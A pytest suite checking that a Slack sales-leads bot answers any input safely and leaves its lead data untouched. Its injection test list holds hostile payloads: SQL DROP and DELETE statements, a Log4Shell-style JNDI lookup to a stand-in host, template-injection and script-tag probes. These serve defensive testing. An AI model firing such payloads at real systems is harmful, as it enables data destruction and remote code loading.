"""Whatever people type gets a sentence: through asking, the graph and the rules, as without a model."""

import pytest

from bot.agent.build import build_agent
from bot.agent.offline.reader import OfflineReader
from bot.domain.answer import Answer, AnswerKind
from bot.usecases.ask import AskQuestion
from tests.builders import MARA, T0, TOM
from tests.usecases.ask_house import House, a_house

SAID_WITHOUT_LOOKING = {AnswerKind.HELP, AnswerKind.CLARIFY, AnswerKind.REFUSED}


@pytest.fixture(scope="module")
def house() -> House:
    return a_house()


@pytest.fixture(scope="module")
def ask(house: House) -> AskQuestion:
    stores = house.stores
    agent = build_agent(
        model="offline",
        reader=OfflineReader(stores.vocabulary, stores.reps),
        answers=house.answers,
        proposals=house.proposals,
        timeout_seconds=5,
    )
    return AskQuestion(agent, stores.threads)


def asked(ask: AskQuestion, question: str) -> Answer:
    """Mara types it into a thread in which she asked something sensible before."""
    ask("hot leads in germany", thread_key=question[:40], asker=MARA, now=T0)
    return ask(question, thread_key=question[:40], asker=MARA, now=T0)


NOTHING = ["", " ", "\n\t ", "\u200b\u200b", "\xa0", "?", "...", "-", "0", "\\", "()", "“”"]
LONG = ["x" * 5_000, "hot leads in germany " * 240, "🔥" * 5_000, "a b " * 1_250, "(" * 5_000, "how many " * 600]
EMOJI = ["🔥🔥🔥", "👍", "🇩🇪", "👩‍💻 👨‍👩‍👧‍👦", "❤️‍🔥", ":fire: :fire:", "1️⃣"]
OTHER_LANGUAGES = [
    "Wer sind meine heißesten Leads in Deutschland?",
    "Quels sont mes meilleurs prospects en France ?",
    "¿Cuántos clientes potenciales tengo este mes?",
    "ドイツの見込み客を見せてください",
    "покажи мои лиды в Германии",
    "أظهر لي العملاء المحتملين في ألمانيا",
    "显示我在德国的潜在客户",
]
CODE = [
    "SELECT * FROM leads WHERE country = 'Germany'",
    "'; DROP TABLE lead; --",
    "hot leads in germany'; DELETE FROM lead WHERE 1=1; --",
    "1 OR 1=1",
    "{{7*7}} ${jndi:ldap://x.test/a} %s %(name)s {0}",
    "<script>alert(1)</script>",
    '{"tool": "delete_leads"}',
    "leads where name like '%%%'",
    "\\x00 \\u0000 \\N{BELL}",
]
SLACK_MARKUP = [
    "*hot* _leads_ in ~france~ `germany`",
    "<https://a.test|hot leads> in <#C0SALES|sales>",
    "<!channel> hot leads",
    "<!subteam^S0TEAM|@sales> leads",
    "> hot leads\n>in germany",
    "```hot leads```",
    "&lt;hot&gt; leads &amp; germany",
    "<mailto:anna@acme.test|anna@acme.test>",
    "<@",
    "<@>",
]
MENTIONS = ["<@U0TOM> what about these?", "<@U0NOBODY> leads", "@Tom Okafor hot leads", "<@U0MARA> <@U0TOM>", "@here"]
CONTROL = [
    "\x00",
    "\x00hot\x00leads\x00",
    "hot\x07leads\x1b[31m in germany",
    "\ud800",
    "hot leads \ud83d in germany",
    "\u202ehot leads",
    "\ufeffhot leads",
    "a\u0301" * 500,
    "\x7f\x80\x9f",
    "hot\r\nleads\rin\x0bgermany\x0c",
]
EVERYTHING = [*NOTHING, *LONG, *EMOJI, *OTHER_LANGUAGES, *CODE, *SLACK_MARKUP, *MENTIONS, *CONTROL]


class TestWhateverIsTyped:
    @pytest.mark.parametrize("question", EVERYTHING, ids=lambda question: repr(question[:30]))
    def test_gets_a_sentence(self, ask: AskQuestion, question: str) -> None:
        answer = asked(ask, question)

        assert any(letter.isalpha() for letter in answer.text)
        assert "Traceback" not in answer.text
        assert len(answer.text) < 4_000

    @pytest.mark.parametrize("question", [*NOTHING, *EMOJI])
    def test_with_nothing_to_read_looks_nothing_up(self, ask: AskQuestion, question: str) -> None:
        assert asked(ask, question).kind in SAID_WITHOUT_LOOKING

    @pytest.mark.parametrize("question", OTHER_LANGUAGES)
    def test_in_another_language_is_told_that_english_is_read(self, ask: AskQuestion, question: str) -> None:
        answer = asked(ask, question)

        assert answer.kind in SAID_WITHOUT_LOOKING
        assert "English" in answer.text

    @pytest.mark.parametrize("question", CODE)
    def test_that_is_code_changes_nothing(self, ask: AskQuestion, house: House, question: str) -> None:
        before = dict(house.stores.store.leads)

        asked(ask, question)

        assert house.stores.store.leads == before

    def test_too_long_is_asked_to_be_short(self, ask: AskQuestion) -> None:
        assert asked(ask, LONG[1]).kind in SAID_WITHOUT_LOOKING

    def test_of_another_person_is_not_about_the_asker(self, ask: AskQuestion) -> None:
        """Tom is meant by his name; Mara's leads are not shown for his."""
        answer = ask(f"hot leads of {TOM.name}", thread_key=None, asker=MARA, now=T0)

        assert {scored.owner.id for scored in answer.leads if scored.owner} == {TOM.id}

    def test_with_control_characters_is_read_without_them(self, ask: AskQuestion) -> None:
        clean = ask("hot leads in germany", thread_key=None, asker=MARA, now=T0)
        dirty = ask("\x00hot\x07 leads\u200b in\r\n\x1b[1;31mgermany\x1b[0m\ufeff", thread_key=None, asker=MARA, now=T0)

        assert (dirty.kind, dirty.leads) == (clean.kind, clean.leads)
